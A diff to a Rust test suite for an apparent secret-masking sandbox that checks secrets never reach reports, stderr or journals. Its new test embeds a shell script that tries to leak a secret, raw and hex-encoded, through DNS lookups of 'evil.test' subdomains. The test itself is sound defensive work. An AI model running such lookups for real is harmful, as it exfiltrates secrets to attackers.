@@ -4,7 +4,7 @@
 use std::fs;
 use std::time::Duration;
 
-use opaque_tests::{Identity, Sandbox, Terminal, each_identity, eventually};
+use opaque_tests::{Ended, Identity, Sandbox, Terminal, each_identity, eventually};
 
 /// Secrets of one run, and runs of each kind for each identity: 2 identities, 2 kinds, 10 runs, 25 secrets.
 const SECRETS: usize = 25;
@@ -164,7 +164,7 @@ fn start(sandbox: &Sandbox, seed: u64, values: &[Vec<u8>]) -> Vec<String> {
 }
 
 fn journal(sandbox: &Sandbox) -> Vec<u8> {
-    let files = fs::read_dir(sandbox.home().join(".local/state/opaque/journal")).unwrap();
+    let Ok(files) = fs::read_dir(sandbox.home().join(".local/state/opaque/journal")) else { return Vec::new() };
     files.flat_map(|file| fs::read(file.unwrap().path()).unwrap()).collect()
 }
 
@@ -189,6 +189,36 @@ fn no_form_of_any_secret_comes_through_a_pipe_or_into_a_record() {
             ];
             assert_eq!(leaked(sandbox, seed, &places), Vec::<String>::new());
             assert!(ended.stdout.len() > 4000 && holds(&ended.stdout, b"***"));
+        }
+    });
+}
+
+#[test]
+fn a_name_that_a_command_looks_up_carries_no_secret_into_a_record() {
+    each_identity(|sandbox| {
+        let value = "Zq9-Lantern-Quartz-4711";
+        let path = sandbox.write(sandbox.elsewhere().join("key"), value).display().to_string();
+        let (secret, twin) = (format!("KEY=file:{path}"), format!("KEY={value}"));
+        let script = "for n in $KEY $(printf %s $KEY | od -An -tx1 | tr -d ' \\n') x$KEY.y; do getent hosts $n.evil.test; done; \
+                      getent hosts plain.evil.test; exit 7";
+        for network in [&[][..], &["--allow-net", "*.good.test"]] {
+            let run = |given: [&str; 2]| sandbox.run_reporting([network, &given, &["--", "sh", "-c", script]].concat());
+            let told = |ended: &Ended, journal: &[u8]| {
+                let said =
+                    [ended.expect(7).reported().to_string().into_bytes(), ended.stderr.clone(), journal.to_vec()];
+                let forms = [value.to_lowercase(), value.bytes().map(|byte| format!("{byte:02x}")).collect()];
+                said.map(|place| forms.iter().any(|form| holds(&place.to_ascii_lowercase(), form.as_bytes())))
+            };
+            let before = journal(sandbox).len();
+            let ended = run(["--secret", &secret]);
+            assert_eq!(told(&ended, &journal(sandbox)[before..]), [false; 3], "{ended}");
+            let blocked = ended.reported()["network"]["blocked"].to_string();
+            assert!(blocked.contains("***.evil.test") && blocked.contains("x***.y.evil.test"), "{blocked}");
+            // What is masked is no name to allow; what is not still is.
+            assert!(!blocked.contains("--allow-net *") && blocked.contains("--allow-net plain.evil.test"), "{blocked}");
+            let before = journal(sandbox).len();
+            let open = run(["--env", &twin]);
+            assert_eq!(told(&open, &journal(sandbox)[before..]), [true; 3], "{open}");
         }
     });
 }
